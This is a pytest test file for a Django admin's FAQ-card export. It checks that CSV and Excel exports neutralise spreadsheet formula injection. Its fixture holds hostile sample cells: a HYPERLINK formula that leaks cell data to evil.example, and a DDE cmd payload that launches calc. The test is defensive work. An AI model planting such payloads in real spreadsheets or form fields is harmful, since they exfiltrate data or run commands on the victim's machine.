"""Exported spreadsheets never carry a live formula: text a spreadsheet would run is neutralised."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from shops.spreadsheets import neutralised
from tests.factories import FAQCardFactory

pytestmark = pytest.mark.django_db

HOSTILE = {
    "question": '=HYPERLINK("http://evil.example/?leak="&A2,"点我领券")',
    "answer": "=cmd|' /C calc'!A0",
    "category": "@SUM(1+1)",
}
COLUMNS = {f"faqcardresource_{c}": "on" for c in ["question", "similar_questions", "answer", "category"]}


@pytest.fixture
def hostile_card(shop_a):
    return FAQCardFactory(shop=shop_a, similar=["+1+1", "-2+3"], **HOSTILE)


def export(client, fmt: str) -> bytes:
    page = client.get(reverse("admin:knowledge_faqcard_export"))
    choices = {label: value for value, label in page.context["form"].fields["format"].choices}
    response = client.post(
        reverse("admin:knowledge_faqcard_export"), {"format": choices[fmt], "resource": "0", **COLUMNS}
    )
    assert response.status_code == 200
    return response.content


def test_the_csv_export_of_cards_prefixes_every_formula_with_a_quote(client, manager_a, hostile_card):
    client.force_login(manager_a)
    rows = list(csv.DictReader(io.StringIO(export(client, "csv").decode("utf-8-sig"))))
    assert len(rows) == 1
    row = rows[0]
    assert {name: row[name] for name in HOSTILE} == {name: "'" + text for name, text in HOSTILE.items()}
    assert row["similar_questions"].startswith("'")


def test_the_excel_export_of_cards_holds_text_and_no_formula(client, manager_a, hostile_card):
    client.force_login(manager_a)
    sheet = openpyxl.load_workbook(io.BytesIO(export(client, "xlsx"))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    assert {cell.value for cell in cells} >= {"'" + text for text in HOSTILE.values()}


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_every_formula_start_is_neutralised(text):
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("value", ["发货时间", "a=b", 12, -5, None, "'已转义"])
def test_plain_text_and_numbers_are_left_alone(value):
    assert neutralised(value) == value
